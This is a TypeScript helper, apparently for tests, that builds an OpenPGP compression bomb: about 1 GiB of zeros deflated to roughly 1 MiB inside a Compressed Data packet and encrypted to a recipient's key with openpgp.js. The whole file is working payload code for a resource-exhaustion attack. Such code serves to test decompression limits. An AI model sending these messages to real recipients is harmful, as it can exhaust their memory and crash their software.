// A compression bomb as an attacker builds it: an OpenPGP Compressed Data packet
// (RFC 4880 §5.6, algorithm 1 = raw deflate) whose Literal Data packet holds
// `inflatedBytes` zeros, encrypted (SEIPDv1) to the victim's cert with openpgp.js.
// 1 GiB of zeros deflates to about 1 MiB.
import { createDeflateRaw } from 'node:zlib';
import * as openpgp from 'openpgp';

/** Raw deflate of: a Literal Data packet header, then `size` zero bytes, streamed (never held whole). */
async function deflatedLiteralOfZeros(size: number): Promise<Uint8Array> {
  const bodyLength = 1 + 1 + 4 + size; // format 'b', empty file name, date, data (RFC 4880 §5.9)
  const header = Buffer.from([0xc0 | 11, 0xff, ...[24, 16, 8, 0].map((shift) => (bodyLength >>> shift) & 0xff), 0x62, 0x00, 0, 0, 0, 0]);
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const finished = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const zeros = Buffer.alloc(4 * 1024 * 1024);
  deflate.write(header);
  for (let written = 0; written < size; written += zeros.length) {
    const piece = zeros.subarray(0, Math.min(zeros.length, size - written));
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await finished;
  return new Uint8Array(Buffer.concat(chunks));
}

export async function compressionBomb(options: { recipient: openpgp.PublicKey; signingKey?: openpgp.PrivateKey; inflatedBytes: number }): Promise<string> {
  const packet = new openpgp.CompressedDataPacket();
  (packet as unknown as { algorithm: number }).algorithm = openpgp.enums.compression.zip; // not in openpgp's .d.ts
  (packet as unknown as { compressed: Uint8Array }).compressed = await deflatedLiteralOfZeros(options.inflatedBytes);
  const list = new openpgp.PacketList<openpgp.AnyPacket>();
  list.push(packet);
  const message = new openpgp.Message(list);
  return openpgp.encrypt({ message: message as openpgp.Message<Uint8Array>, encryptionKeys: options.recipient, config: { aeadProtect: false } });
}
